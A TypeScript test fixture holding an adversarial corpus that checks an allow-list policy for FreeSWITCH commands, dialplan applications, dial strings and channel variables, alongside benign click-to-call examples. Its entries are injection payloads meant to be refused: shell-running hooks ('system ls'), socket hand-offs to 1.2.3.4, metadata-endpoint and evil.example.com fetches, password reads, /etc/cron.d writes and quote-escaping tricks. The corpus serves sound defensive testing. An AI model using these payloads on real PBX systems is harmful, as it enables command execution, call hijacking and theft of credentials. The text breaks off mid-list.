/**
 * Adversarial corpus for the allow-list policy over FreeSWITCH's languages
 * (src/fs-lang/, issue 8), and the seed 003 examples that must keep working.
 *
 * Every entry is data: a `command` (an api line as /cli receives it), an `application`
 * with its data (a routing or bridge reply, a dialplan step), a `dialstring` or a
 * channel `variable`. `deliver` runs an entry through FsPolicy; `wrap` builds the same
 * attack delivered another way (bgapi, sched_api / expand granted, originate
 * `&app(...)`, an inline list, an `execute_on_answer` or api hook value, a `{...}` /
 * `[...]` block of a dial string, an inline transfer, `app::args` of uuid_broadcast...).
 *
 */
import { FsPolicy, type Scope } from '../../src/fs-lang/policy.js';
import { DEFAULT_SECURITY, type SecurityConfig } from '../../src/fs-lang/policy-options.js';
import { parseAssignment } from '../../src/fs-lang/var-block.js';

export type AttackClass =
  | 'run-time assembly'
  | 'hook variables'
  | 'indirect names'
  | 'handing the call away'
  | 'secrets and network'
  | 'wrappers'
  | 'quoting and escaping'
  | 'toll fraud';

interface Base {
  class: AttackClass;
  /** `key`: a /cli key (outbound, every table command, no exact grant); `public`: a reply in the public context. */
  scope: 'key' | 'public';
  /** Names the key grants exactly (a wrapper such as sched_api), never the attack itself. */
  grant?: readonly string[];
  /** How the entry was delivered when it is a wrapped form. */
  via?: string;
}

export type Attack = Base &
  (
    | { kind: 'command'; cmd: string; arg: string }
    | { kind: 'application'; application: string; data: string }
    | { kind: 'dialstring'; text: string }
    | { kind: 'variable'; name: string; value: string }
  );

export const UUID = 'b2961087-c353-45f6-a50e-1fd957e23fec';

/** The options seed 003 needs (as scratch/smoke.ts configures them). */
export const SEED_SECURITY: SecurityConfig = {
  ...DEFAULT_SECURITY,
  recordDirs: ['$${recordings_dir}/', '/fs/recording/'],
  mediaUrlPrefixes: [...DEFAULT_SECURITY.mediaUrlPrefixes, 'http://ip/'],
  extraApplications: ['cti_robot'],
};

export function seedPolicy(): FsPolicy {
  return new FsPolicy(SEED_SECURITY);
}

/** A /cli key: may go outbound, runs every command of the table, names nothing exactly. */
export function keyScope(grant: readonly string[] = []): Scope {
  const exact = new Set(grant);
  return { outbound: true, command: () => true, exact: (name) => exact.has(name), exactUsed: [] };
}

/** A routing or bridge reply for a call in the public context. */
export function publicScope(): Scope {
  return { outbound: false, context: 'public' };
}

/** Commands a public-context origin is given when a wrapped attack needs an api line to travel in. */
export const PUBLIC_DELIVERY_COMMANDS: ReadonlySet<string> = new Set(['originate', 'cti_originate', 'uuid_setvar', 'uuid_transfer', 'uuid_broadcast']);

/** The public context reached through an api line (typed API): only the delivering commands, still not outbound. */
export function publicCommandScope(grant: readonly string[] = []): Scope {
  const exact = new Set(grant);
  return { outbound: false, context: 'public', command: (name) => PUBLIC_DELIVERY_COMMANDS.has(name), exact: (name) => exact.has(name), exactUsed: [] };
}

export function scopeFor(a: Attack): Scope {
  if (a.scope === 'key') return keyScope(a.grant);
  return a.kind === 'command' ? publicCommandScope(a.grant) : publicScope();
}

/** Runs the entry through the policy: returns when accepted, throws PolicyRefusal when refused. */
export function deliver(policy: FsPolicy, a: Attack, scope: Scope = scopeFor(a)): void {
  switch (a.kind) {
    case 'command':
      policy.command(a.cmd, a.arg, scope);
      return;
    case 'application':
      policy.application(a.application, a.data, scope, 'corpus');
      return;
    case 'dialstring':
      policy.dialString(a.text, scope, 'corpus');
      return;
    case 'variable': {
      const v = policy.parse('corpus', () => parseAssignment(`${a.name}=${a.value}`));
      policy.variable(v, scope, 'corpus');
    }
  }
}

export function describeAttack(a: Attack): string {
  const body =
    a.kind === 'command'
      ? `${a.cmd} ${a.arg}`
      : a.kind === 'application'
        ? `app ${a.application}(${a.data})`
        : a.kind === 'dialstring'
          ? `dial ${a.text}`
          : `var ${a.name}=${a.value}`;
  return `${a.via === undefined ? '' : `[${a.via}] `}${body}${a.scope === 'public' ? ' (public)' : ''}${a.grant === undefined ? '' : ` (grants ${a.grant.join(',')})`}`;
}

// ---------------------------------------------------------------------------------
// Seed 003: every /cli example (cmd, arg), placeholders kept where the policy can read
// them; the robot-through-a-line-group example names a line group and a number.

export interface CliExample {
  cmd: string;
  arg: string;
  /** Names the key must list exactly (mod_cti's own commands). */
  grant?: readonly string[];
  /** Where in seed 003 it comes from. */
  what: string;
}

export const SEED_003_EXAMPLES: readonly CliExample[] = [
  { what: 'example 1: echo', cmd: 'bgapi', arg: 'originate user/1000 &echo' },
  {
    what: 'example 2: record on answer of the mobile leg',
    cmd: 'bgapi',
    arg: "cti_originate {origination_caller_id_number=clicktocall,origination_nested_vars=true,execute_on_answer_set_record_filename='export record_filename=$${recordings_dir}/${strftime(%Y-%m-%d)}/${uuid}.wav'}user/121 &bridge({origination_caller_id_number=121,execute_on_answer_start_record='record_session \\${record_filename}'}linegroup/default/5555)",
  },
  {
    what: 'example 2: record when the extension answers (inline)',
    cmd: 'bgapi',
    arg: 'cti_originate {origination_caller_id_number=clicktocall}user/121 export:record_filename=$${recordings_dir}/${strftime(%Y-%m-%d)}/${uuid}.wav,record_session:${record_filename},bridge:{origination_caller_id_number=121}linegroup/default/1380000000 inline',
  },
  {
    what: 'example 3: custom ringback and record',
    cmd: 'bgapi',
    arg: "cti_originate {origination_nested_vars=true,instant_ringback=true,transfer_ringback=声音文件路径,origination_caller_id_number=9999}user/1000 &bridge({origination_caller_id_number=1000,execute_on_answer='record_session /fs/recording/20220624144610983/100000102896000118380317308.wav',ignore_early_media=true}linegroup/default/138000000)",
  },
  {
    what: 'robot after the extension answers',
    cmd: 'bgapi',
    arg: "cti_originate {ignore_early_media=true,origination_caller_id_number=1390000000,话术变量=话术变量的值}user/1000 'cti_robot:话术,set:park_timeout=3600,park' inline",
  },
  {
    what: 'robot after the mobile answers (linegroup/线路组/号码 with a group and a number)',
    cmd: 'bgapi',
    arg: "cti_originate {ignore_early_media=true,origination_caller_id_number=1390000000,话术变量=话术变量的值}linegroup/default/13800000000 'cti_robot:话术,set:park_timeout=3600,park' inline",
  },
  {
    what: 'play a local file',
    cmd: 'bgapi',
    arg: 'cti_originate {ignore_early_media=true,origination_caller_id_number=1390000000}sofia/external/1380000000@vosIP &playback(声音文件路径)',
  },
  {
    what: 'play a file from the network',
    cmd: 'bgapi',
    arg: "cti_originate {ignore_early_media=true,origination_caller_id_number=1390000000}sofia/external/abc@27.156.125.43:6066 'playback:file_string://http://ip/uploads/audio/20200526/getaudio493c5/202005261100135ecc863db4775.wav' inline",
  },
  {
    what: 'play several files',
    cmd: 'bgapi',
    arg: 'cti_originate {ignore_early_media=true,origination_caller_id_number=1390000000}sofia/external/1380000000@vosIP &playback(file_string://文件1.wav!文件2.wav)',
  },
  {
    what: 'play tts',
    cmd: 'bgapi',
    arg: "cti_originate {ignore_early_media=true,origination_caller_id_number=1390000000}user/123 'playback:file_string://http://127.0.0.1:9989/tts?text=这个测试是放音文字转语音测试' inline",
  },
  { what: 'uuid_broadcast to both legs', cmd: 'uuid_broadcast', arg: `${UUID} http://127.0.0.1:9989/tts?text=这个测试是放音文字转语音测试 both` },
  // mod_cti's own command (FreeSWITCH has none such): an operator running that module names it exactly (cli.keyAllow).
  { what: 'uuid_cti_background (mfr)', cmd: 'uuid_cti_background', arg: `${UUID} /fs/sounds/music.wav mfr`, grant: ['uuid_cti_background'] },
  { what: 'uuid_cti_background (mfw)', cmd: 'uuid_cti_background', arg: `${UUID} http://127.0.0.1:9989/tts?text=背景音 mfw`, grant: ['uuid_cti_background'] },
  { what: 'conference json_list', cmd: 'conference', arg: '会议名 json_list' },
  { what: 'conference xml_list', cmd: 'conference', arg: '会议名 xml_list' },
  { what: 'conference mute', cmd: 'conference', arg: '会议名 mute 5' },
  { what: 'conference unmute', cmd: 'conference', arg: '会议名 unmute 5' },
  { what: 'conference unmute all', cmd: 'conference', arg: '会议名 unmute all' },
  { what: 'conference hup', cmd: 'conference', arg: '会议名 hup 5' },
  { what: 'conference kick', cmd: 'conference', arg: '会议名 kick 5' },
  { what: 'conference kick all', cmd: 'conference', arg: '会议名 kick all' },
  { what: 'conference play to a member', cmd: 'conference', arg: '会议名 play 声音文件 5' },
  { what: 'conference play to everyone', cmd: 'conference', arg: '会议名 play 声音文件 async' },
  // The parameter list of seed 003 (execute_on_answer, $${cn-ring}, nolocal:, export_vars).
  {
    what: 'parameters: execute_on_answer record_session under $${recordings_dir}',
    cmd: 'bgapi',
    arg: "originate {execute_on_answer='record_session $${recordings_dir}/20210303/${uuid}.wav',absolute_codec_string=g729,originate_timeout=30,ignore_early_media=true}user/1000 &echo",
  },
  {
    what: 'parameters: transfer_ringback=$${cn-ring}, nolocal: and export_vars',
    cmd: 'bgapi',
    arg: "cti_originate {instant_ringback=true,transfer_ringback=$${cn-ring},nolocal:sip_h_X-AutoAccept=true,export_vars='nolocal:sip_h_X-AutoAccept',origination_uuid=" + UUID + '}user/1000 &bridge({export_vars=\'record_filename,other_var\',record_filename=$${recordings_dir}/${uuid}.wav}linegroup/default/13800000000)',
  },
];

// ---------------------------------------------------------------------------------
// The corpus.

const cmd = (klass: AttackClass, command: string, arg: string, extra: Partial<Base> = {}): Attack => ({ class: klass, scope: 'key', kind: 'command', cmd: command, arg, ...extra });
const app = (klass: AttackClass, scope: Base['scope'], application: string, data: string, extra: Partial<Base> = {}): Attack => ({ class: klass, scope, kind: 'application', application, data, ...extra });
const dial = (klass: AttackClass, scope: Base['scope'], text: string, extra: Partial<Base> = {}): Attack => ({ class: klass, scope, kind: 'dialstring', text, ...extra });
const variable = (klass: AttackClass, scope: Base['scope'], name: string, value: string, extra: Partial<Base> = {}): Attack => ({ class: klass, scope, kind: 'variable', name, value, ...extra });

function buildCorpus(): Attack[] {
  const out: Attack[] = [];
  const push = (...a: Attack[]): void => {
    out.push(...a);
  };

  // 1. Run-time assembly: every refused expansion form, in a variable value, in
  //    application data and in an api argument.
  const A: AttackClass = 'run-time assembly';
  const assembly = [
    '${sys:0:3}', '${v:0:3}', '${caller_id_number:0:3}', '${uuid:1}', '${uuid:-3}', '${uuid:0:1}tem', '${destination_number:0:6}',
    '${${x}}', '${${caller_id_number}}', '$${${x}}', '${${uuid}}', '${a${x}}', '${uuid${x}}',
    '${expand system ls}', '${expand(system ls)}', '${expand(${x})}',
    '${system(ls)}', '${system(id)}', '${SYSTEM(id)}', '${bg_system(id)}', '${lua(x.lua)}', '${luarun(x.lua)}', '${python(x)}', '${perlrun(x)}', '${jsrun(x)}',
    '${eval(${x})}', '${eval(x)}', '${url_decode(%24%7Bsystem(ls)%7D)}', '${url_decode(x)}', '${user_data(1000@d param password)}', '${curl(http://x)}',
    '${xml_locate(directory)}', '${global_getvar(x)}', '${cond(1 == 1 ? a : b)}', '${regex(a|b|c)}', '${db(select/x/y)}', '${hash(select/x/y)}',
    '${uuid_getvar(x y)}', '${fsctl(shutdown)}', '${originate(x)}', '${sofia_contact(1000@d)}',
    '${uuid}${caller_id_number}', '${uuid}{system(ls)}', '${caller_id_number}{x}', '$${domain}${uuid}', '${strftime(%Y)}${uuid}', '${strftime(%Y)}{x}', '${uuid}$${recordings_dir}',
    '${strftime(${x})}', '${strftime(%Y;ls)}', '${strftime(%Y`id`)}', '${strftime(%Y)(x)}',
    '${not_allowed_var}', '${sip_h_X-Evil}', '$${not_allowed_global}', '$${hold_music:0:3}', '${UUID:0:3}', '$${recordings_dir:0:3}',
    '${uuid', '${uuid{', '${}', '${ }', '${x y}', '${1abc}', '${(ls)}', '${a.b(c)}',
  ];
  for (const e of assembly) {
    push(variable(A, 'key', 'x', e));
    push(app(A, 'key', 'log', `INFO ${e}`));
    push(cmd(A, 'uuid_getvar', `${UUID} ${e}`));
  }
  push(
    cmd(A, 'originate', "{x=${system(ls)}}user/1000 &echo"),
    cmd(A, 'originate', '{x=${sys:0:3}}user/1000 &echo'),
    cmd(A, 'originate', 'user/1000 &playback(${${x}})'),
    cmd(A, 'originate', "user/1000 'set:a=sys,set:b=tem,set:api_hangup_hook=${a}${b} ls' inline"),
    cmd(A, 'originate', "user/1000 'set:a=${uuid}{system(ls)}' inline"),
    cmd(A, 'originate', '{origination_nested_vars=true,x=${strftime(%Y)}${uuid}}user/1000 &echo'),
    cmd(A, 'uuid_setvar', `${UUID} x \${expand(system ls)}`),
    app(A, 'key', 'set', 'x=${system(ls)}'),
    app(A, 'key', 'playback', '/tmp/${system(ls)}.wav'),
    app(A, 'key', 'bridge', 'user/${system(ls)}'),
    dial(A, 'public', 'verto/${system(id)}'),
    dial(A, 'key', 'gateway/${system(id)}'),
    app(A, 'public', 'bridge', 'verto/${url_decode(x)}'),
  );

  // 2. Hook and execution variables.
  const H: AttackClass = 'hook variables';
  const apiHooks = ['api_hangup_hook', 'api_on_answer', 'api_on_ring', 'api_on_pre_answer', 'api_on_media', 'api_on_originate', 'api_on_post_originate', 'api_reporting_hook', 'api_after_bridge', 'API_HANGUP_HOOK', 'nolocal:api_hangup_hook', 'nolocal:api_on_answer'];
  const badCommands = ['system ls', 'bgapi system ls', 'lua x.lua', 'sofia profile internal restart', 'expand system ls', 'originate user/1000 &system(ls)'];
  for (const name of apiHooks) for (const value of badCommands) push(variable(H, 'key', name, value));
  for (const name of ['api_hangup_hook', 'api_on_answer']) push(variable(H, 'public', name, 'status'));
  const execHooks = ['execute_on_answer', 'execute_on_ring', 'execute_on_pre_answer', 'execute_on_media', 'execute_on_originate', 'execute_on_post_originate', 'execute_on_pre_originate', 'execute_on_post_bridge', 'execute_on_answer_x', 'execute_on_answer_1', 'EXECUTE_ON_ANSWER', 'nolocal:execute_on_answer', 'nolocal:execute_on_answer_start_record'];
  const badApps = ['system ls', 'socket 1.2.3.4:8084 async full', 'lua x.lua', 'system::ls', 'socket:1.2.3.4:8084', 'set api_hangup_hook=system ls', 'playback http://169.254.169.254/latest', 'record_session /etc/cron.d/x'];
  for (const name of execHooks) for (const value of badApps) push(variable(H, 'key', name, value));
  for (const name of ['exec_after_bridge_app', 'exec_after_bridge_arg', 'bridge_pre_execute_bleg_app', 'bridge_pre_execute_aleg_app', 'bridge_pre_execute_bleg_data', 'record_post_process_exec_api', 'record_post_process_exec_app', 'conference_auto_outcall', 'sip_execute_on_image', 'socket_resume', 'nolocal:exec_after_bridge_app']) {
    push(variable(H, 'key', name, 'system'), variable(H, 'key', name, 'echo'));
  }
  for (const value of ['system ls', 'yes', '1', 'true api_hangup_hook=system ls', 'true,api_hangup_hook=system ls']) push(variable(H, 'key', 'session_in_hangup_hook', value));
  push(
    variable(H, 'key', 'api_hangup_hook', 'status\nexecute-app-name: system'),
    variable(H, 'key', 'api_on_answer', 'status x\r\nsystem ls'),
  );
  push(
    cmd(H, 'originate', "{api_on_answer='system ls'}user/1000 &echo"),
    cmd(H, 'originate', "{execute_on_answer='system ls'}user/1000 &echo"),
    cmd(H, 'originate', '{nolocal:api_hangup_hook=system ls}user/1000 &echo'),
    cmd(H, 'originate', "{^^:api_hangup_hook='system ls':x=1}user/1000 &echo"),
    cmd(H, 'originate', "user/1000 &bridge([execute_on_answer='system ls']user/1001)"),
    cmd(H, 'originate', "<api_on_answer='system ls'>user/1000 &echo"),
    cmd(H, 'originate', "{exec_after_bridge_app=system,exec_after_bridge_arg='ls'}user/1000 &bridge(user/1001)"),
    cmd(H, 'uuid_setvar', `${UUID} api_hangup_hook system ls`),
    cmd(H, 'uuid_setvar_multi', `${UUID} x=1;api_hangup_hook=system ls`),
    app(H, 'key', 'multiset', "^^:api_on_answer=system ls:x=1"),
    app(H, 'key', 'export', 'nolocal:execute_on_answer=socket 1.2.3.4:8084'),
    app(H, 'key', 'push', 'api_hangup_hook=lua x.lua'),
  );

  // 3. Indirect names.
  const I: AttackClass = 'indirect names';
  for (const data of ['${hn}=system ls', '$${hn}=x', '${uuid}=x', 'api_${x}_hook=system ls', '$\\{hn}=system ls', "'${hn}'=x", '${hn}', 'x${hn}=1']) {
    push(app(I, 'key', 'set', data), app(I, 'key', 'export', data));
  }
  push(
    app(I, 'key', 'push', '${hn}=system ls'),
    app(I, 'key', 'unshift', '${hn}=system ls'),
    app(I, 'key', 'set_profile_var', '${hn}=x'),
    app(I, 'key', 'multiset', '${hn}=system'),
    app(I, 'key', 'multiset', '^^:${hn}=system ls'),
    app(I, 'key', 'unset', '${hn}'),
    app(I, 'key', 'read', '1 4 /x/y.wav ${hn} 5000 #'),
    app(I, 'key', 'play_and_get_digits', '1 4 3 5000 # /x/y.wav /x/z.wav ${hn} \\d+'),
    cmd(I, 'uuid_setvar', `${UUID} \${x} system ls`),
    cmd(I, 'uuid_setvar', `${UUID} api_\${x}_hook system ls`),
    cmd(I, 'uuid_setvar', `${UUID} $\\{x} system ls`),
    cmd(I, 'uuid_setvar_multi', `${UUID} \${x}=system ls`),
    cmd(I, 'originate', 'user/1000 &set(${hn}=system)'),
    cmd(I, 'originate', "{${hn}='system ls'}user/1000 &echo"),
    dial(I, 'key', '[${hn}=system]user/1000'),
    dial(I, 'public', 'user/${x}'),
    dial(I, 'public', 'user/${caller_id_number}'),
    dial(I, 'public', 'user/$${x}'),
    dial(I, 'public', 'user/1000@${domain_name}'),
    dial(I, 'public', '${x}'),
    dial(I, 'public', '${dial_string}'),
    dial(I, 'public', '$${gw}/1'),
    dial(I, 'public', 'user/${uuid}'),
    dial(I, 'public', 'group/${x}'),
    app(I, 'public', 'bridge', 'user/${x}'),
    app(I, 'public', 'bridge', '${x}'),
  );

  // 4. Handing the call away.
  const S: AttackClass = 'handing the call away';
  for (const scope of ['key', 'public'] as const) {
    push(
      app(S, scope, 'socket', '1.2.3.4:8084 async full'),
      app(S, scope, 'transfer', "'socket:1.2.3.4:8084 async full' inline"),
      app(S, scope, 'transfer', 'socket:1.2.3.4:8084 inline'),
      app(S, scope, 'sched_transfer', "+1 'socket:1.2.3.4:8084' inline"),
      app(S, scope, 'execute_extension', "'socket:1.2.3.4:8084' inline"),
      app(S, scope, 'bind_meta_app', '1 a s socket::1.2.3.4:8084'),
      app(S, scope, 'bind_digit_action', 'x,1,exec:socket,1.2.3.4:8084'),
      app(S, scope, 'intercept', UUID),
      app(S, scope, 'three_way', UUID),
      app(S, scope, 'userspy', '1000@d'),
      app(S, scope, 'event', 'Event-Subclass=cti::x,Event-Name=CUSTOM'),
      app(S, scope, 'eval', 'socket'),
      app(S, scope, 'att_xfer', 'loopback/app=socket:1.2.3.4'),
      variable(S, scope, 'execute_on_answer', 'socket::1.2.3.4:8084 async full'),
    );
  }
  push(
    cmd(S, 'originate', "user/1000 'socket:1.2.3.4:8084 async full' inline"),
    cmd(S, 'originate', "user/1000 'answer,socket:1.2.3.4:8084' inline"),
    cmd(S, 'originate', "user/1000 'set:x=1,socket:1.2.3.4' inline"),
    cmd(S, 'originate', 'user/1000 socket:1.2.3.4:8084 inline'),
    cmd(S, 'originate', "user/1000 'SOCKET:1.2.3.4' inline"),
    cmd(S, 'originate', "user/1000 'Socket:1.2.3.4' inline"),
    cmd(S, 'originate', 'user/1000 &socket(1.2.3.4:8084)'),
    cmd(S, 'cti_originate', "user/1000 'socket:1.2.3.4:8084' inline"),
    cmd(S, 'uuid_transfer', `${UUID} 'socket:1.2.3.4:8084 async full' inline`),
    cmd(S, 'uuid_transfer', `${UUID} -bleg 'socket:1.2.3.4:8084' inline`),
    cmd(S, 'uuid_transfer', `${UUID} -both socket:1.2.3.4:8084 inline`),
    // freecti's own hand-off (fs-lang/handoff.ts) written as text: refused; only an issued hand-off object passes.
    cmd(S, 'uuid_transfer', `${UUID} 'set:nacd_group=120,socket:127.0.0.1:8084 async full' inline`),
    cmd(S, 'uuid_transfer', `${UUID} 'set:freecti_queue=q a,socket:127.0.0.1:8084 async full' inline`),
    cmd(S, 'originate', "sofia/gateway/gw1/5550 'set:nacd_group=120,socket:127.0.0.1:8084 async full' inline"),
    cmd(S, 'uuid_broadcast', `${UUID} socket::1.2.3.4:8084 both`),
    cmd(S, 'uuid_broadcast', `${UUID} socket:: aleg`),
    cmd(S, 'sched_broadcast', `+1 ${UUID} socket::1.2.3.4:8084 aleg`),
    cmd(S, 'originate', 'user/1000 &bridge(loopback/app=socket:1.2.3.4)'),
    cmd(S, 'originate', 'loopback/app=socket:1.2.3.4 &echo'),
    dial(S, 'key', 'loopback/app=socket:1.2.3.4'),
    dial(S, 'public', 'loopback/park/default/inline'),
    app(S, 'public', 'eavesdrop', UUID),
    app(S, 'public', 'redirect', 'sip:1000@evil.example.com'),
    app(S, 'public', 'deflect', 'sip:1000@evil.example.com'),
  );

  // 5. Reading secrets and the network.
  const N: AttackClass = 'secrets and network';
  for (const [command, arg] of [
    ['user_data', '1000@d param password'], ['curl', 'http://169.254.169.254/latest'], ['xml_locate', 'directory'], ['global_getvar', ''], ['msleep', '100000'],
    ['system', 'ls'], ['bg_system', 'id'], ['fsctl', 'shutdown'], ['load', 'mod_shell_stream'], ['unload', 'mod_sofia'], ['reload', 'mod_sofia'], ['reloadxml', ''],
    ['shutdown', ''], ['eval', '${user_data(1000@d param password)}'], ['lua', 'x.lua'], ['luarun', 'x.lua'], ['jsrun', 'x.js'], ['perlrun', 'x.pl'], ['python', 'x'],
    ['spawn', 'id'], ['db', 'select/x/y'], ['hash', 'insert/x/y/z'], ['group_call', 'x@d'], ['sofia_dig', 'evil.example.com'], ['nat_map', 'mapping'],
    ['uuid_record', `${UUID} start /usr/local/freeswitch/conf/vars.xml`], ['uuid_record', `${UUID} start /etc/cron.d/x`], ['uuid_record', `${UUID} start $\${recordings_dir}/../conf/vars.xml`],
    ['uuid_record', `${UUID} start /fs/recording/../../etc/x`], ['uuid_record', `${UUID} start /fs/recording/`], ['uuid_record', `${UUID} start /fs/recordingX/a.wav`],
    ['uuid_record', `${UUID} start $\${conf_dir}/x.wav`], ['uuid_record', `${UUID} start '/etc/x'`], ['uuid_record', `${UUID} start \${caller_id_number}`],
    ['conference', 'room record /etc/x.wav'], ['conference', 'room play http://169.254.169.254/latest async'], ['conference', 'room play shell_stream://id async'],
    ['uuid_broadcast', `${UUID} http://169.254.169.254/latest both`], ['uuid_broadcast', `${UUID} https://evil.example.com/x.wav aleg`], ['uuid_broadcast', `${UUID} shell_stream://id both`],
    ['uuid_broadcast', `${UUID} http://ip.evil.example.com/x.wav both`], ['uuid_broadcast', `${UUID} http://ip@evil.example.com/x.wav both`],
    ['uuid_broadcast', `${UUID} http://127.0.0.1@169.254.169.254/x both`], ['uuid_broadcast', `${UUID} http_cache://http://evil.example.com/x.wav both`],
    ['uuid_broadcast', `${UUID} playback::http://169.254.169.254/x both`], ['uuid_displace', `${UUID} start http://169.254.169.254/x`],
    ['sched_broadcast', `+1 ${UUID} http://169.254.169.254/x both`],
  ] as const) {
    push(cmd(N, command, arg));
  }
  for (const file of [
    'http://169.254.169.254/latest', 'https://evil.example.com/x.wav', 'http://ip.evil.example.com/x.wav', 'http://ip@evil.example.com/x.wav', 'http://evil.example.com/?http://ip/',
    'http_cache://http://evil.example.com/x', 'shout://evil.example.com/x.mp3', 'vlc://x', 'shell_stream://id', 'SHELL_STREAM://id', 'file_string://http://evil.example.com/a!b.wav',
    'file_string://a.wav!shell_stream://id', '/a/../../etc/passwd', '../../etc/passwd', 'http://[::2]/x', 'https://127.0.0.1.evil.example.com/x', 'ftp://evil.example.com/x',
    'http://127.0.0.1:80@evil.example.com/x', 'http://ip%40evil.example.com/x',
  ]) {
    push(app(N, 'key', 'playback', file));
  }
  push(
    app(N, 'key', 'endless_playback', 'http://169.254.169.254/x'),
    app(N, 'key', 'loop_playback', '+3 http://169.254.169.254/x'),
    app(N, 'key', 'displace_session', 'http://169.254.169.254/x mux'),
    app(N, 'key', 'play_and_get_digits', '1 4 3 5000 # http://169.254.169.254/x /x/z.wav v \\d+'),
    app(N, 'key', 'read', '1 4 http://169.254.169.254/x v 5000 #'),
    app(N, 'key', 'record', '/etc/cron.d/x'),
    app(N, 'key', 'record_session', '/usr/local/freeswitch/conf/vars.xml'),
    app(N, 'key', 'record_session', '$${recordings_dir}/../../conf/x.wav'),
    app(N, 'key', 'stop_record_session', '/etc/x'),
    app(N, 'key', 'curl', 'http://169.254.169.254/latest'),
    app(N, 'key', 'xml_locate', 'directory'),
    variable(N, 'key', 'record_filename', '/etc/cron.d/x'),
    variable(N, 'key', 'record_filename', '$${recordings_dir}/../x.wav'),
    variable(N, 'key', 'RECORD_FILENAME', '/etc/x'),
    cmd(N, 'originate', 'user/1000 &playback(${user_data(1000@x param password)})'),
    cmd(N, 'originate', 'user/1000 &playback(http://169.254.169.254/latest)'),
    cmd(N, 'originate', 'user/1000 &curl(http://x)'),
    // once holes: file parameters, variables FreeSWITCH plays from
    app(N, 'key', 'playback', '{x=1}http://169.254.169.254/latest'),
    app(N, 'key', 'playback', '{x=1}shell_stream://id'),
    app(N, 'key', 'playback', 'file_string://{a=b}shell_stream://id'),
    variable(N, 'key', 'ringback', 'http://169.254.169.254/x.wav'),
    variable(N, 'key', 'transfer_ringback', 'http://169.254.169.254/x.wav'),
    variable(N, 'key', 'hold_music', 'http://169.254.169.254/x.wav'),
    variable(N, 'key', 'temp_hold_music', 'http://169.254.169.254/x.wav'),
    variable(N, 'key', 'sound_prefix', 'http://169.254.169.254/'),
  );

  // 6. Wrappers.
  const W: AttackClass = 'wrappers';
  push(
    cmd(W, 'bgapi', 'system ls'),
    cmd(W, 'bgapi', 'bgapi system ls'),
    cmd(W, 'bgapi', 'bgapi bgapi lua x.lua'),
    cmd(W, 'bgapi', 'sofia profile internal restart'),
    cmd(W, 'sofia', 'profile internal restart'),
    cmd(W, 'bgapi', 'sofia profile external killgw gw'),
    cmd(W, 'bgapi', 'sofia global siptrace on'),
    cmd(W, 'sofia', 'profile internal flush_inbound_reg'),
    cmd(W, 'bgapi', 'expand system ls'),
    cmd(W, 'sched_api', '+1 none system ls'),
    cmd(W, 'sched_api', '+1 none bgapi system ls'),
    cmd(W, 'sched_api', '@1234 none system ls&'),
    cmd(W, 'sched_api', '+1 none sofia profile internal restart', { grant: ['sched_api'] }),
    cmd(W, 'sched_api', '+1 none system ls', { grant: ['sched_api'] }),
    cmd(W, 'sched_api', '+1 grp bgapi expand system ls', { grant: ['sched_api'] }),
    cmd(W, 'expand', 'system ls'),
    cmd(W, 'expand', 'system ls', { grant: ['expand'] }),
    cmd(W, 'expand', 'bgapi lua x.lua', { grant: ['expand'] }),
    cmd(W, 'expand', 'uuid_getvar ' + UUID + ' ${system(ls)}', { grant: ['expand'] }),
    cmd(W, 'bgapi', 'sched_api +1 none system ls'),
    cmd(W, 'BGAPI', 'system ls'),
    cmd(W, 'bgapi', 'SYSTEM ls'),
    cmd(W, 'Bgapi', 'Lua x.lua'),
    cmd(W, 'bgapi', 'originate user/1000 &system(ls)'),
    cmd(W, 'bgapi', `uuid_transfer ${UUID} 'socket:1.2.3.4' inline`),
    cmd(W, 'bgapi', 'bgapi bgapi bgapi bgapi bgapi bgapi bgapi bgapi status'),
    cmd(W, 'bgapi', ''),
    cmd(W, 'bgapi', '  '),
    cmd(W, 'bgapi', 'system\tls'),
    cmd(W, 'bgapi', 'status\nsystem ls'),
    cmd(W, 'status', '\r\nbgapi system ls'),
    cmd(W, 'bgapi', 'msleep 100000'),
    cmd(W, 'bgapi', 'fsctl shutdown'),
    cmd(W, 'bgapi', 'reloadxml'),
    cmd(W, 'bgapi', 'load mod_shell_stream'),
    cmd(W, 'originate', "{api_on_answer='bgapi system ls'}user/1000 &echo"),
    cmd(W, 'originate', "{api_on_answer='sched_api +1 none system ls'}user/1000 &echo"),
  );

  // 7. Quoting and escaping tricks.
  const Q: AttackClass = 'quoting and escaping';
  const quoted = ['$\\{system(ls)}', "$'{'system(ls)}", '\\${system(ls)}', '$"{"system(ls)}', "'$'{system(ls)}", '\\$\\{system(ls)\\}', '$\\\\{system(ls)}', "${'system'(ls)}", "${sys'tem(ls)}", '${sys\\tem(ls)}', "$''{system(ls)}", '$\\\'{system(ls)}', '${sy""stem(ls)}', "${u'ser_data(1000@d param password)}"];
  for (const e of quoted) {
    push(variable(Q, 'key', 'x', e), app(Q, 'key', 'log', `INFO ${e}`), cmd(Q, 'uuid_getvar', `${UUID} ${e}`));
  }
  push(
    cmd(Q, 'originate', '{a=$\\{system(ls)}}user/1000 &echo'),
    cmd(Q, 'originate', "{a='$'{system(ls)}}user/1000 &echo"),
    cmd(Q, 'originate', "user/1000 'set:a=\\${system(ls)}' inline"),
    cmd(Q, 'originate', "{execute_on_answer='sys''tem ls'}user/1000 &echo"),
    cmd(Q, 'originate', "{execute_on_answer=sys'tem ls'}user/1000 &echo"),
    cmd(Q, 'originate', "user/1000 'sys'tem:ls inline"),
    cmd(Q, 'originate', "user/1000 &sys'tem(ls)'"),
    cmd(Q, 'originate', "user/1000 'so''cket:1.2.3.4' inline"),
    cmd(Q, 'originate', "{a='}',api_on_answer='system ls'}user/1000 &echo"),
    cmd(Q, 'uuid_transfer', `${UUID} 1000 'inline'`),
    cmd(Q, 'uuid_setvar', `${UUID} 'api_hangup_hook' system ls`),
    // quotes that protect a comma until FreeSWITCH drops them from the originate word
    cmd(Q, 'originate', "{a='x,api_on_answer=system ls'}user/1000 &echo"),
    cmd(Q, 'originate', "{a='x,execute_on_answer=system ls'}user/1000 &echo"),
    cmd(Q, 'originate', "{a='x,exec_after_bridge_app=lua'}user/1000 &echo"),
    cmd(Q, 'cti_originate', "{a='1,execute_on_answer=socket 1.2.3.4:8084'}user/1000 &park()"),
    cmd(Q, 'uuid_setvar', `${UUID} api_hangup_hook 'system' ls`),
    // once holes: FreeSWITCH removes the quotes inside every word it splits
    cmd(Q, 'uuid_broadcast', `${UUID} 'system::ls' both`),
    cmd(Q, 'uuid_broadcast', `${UUID} sys'tem::'ls both`),
    cmd(Q, 'uuid_broadcast', `${UUID} 'http://169.254.169.254/x' both`),
    cmd(Q, 'conference', "room play 'http://169.254.169.254/x' async"),
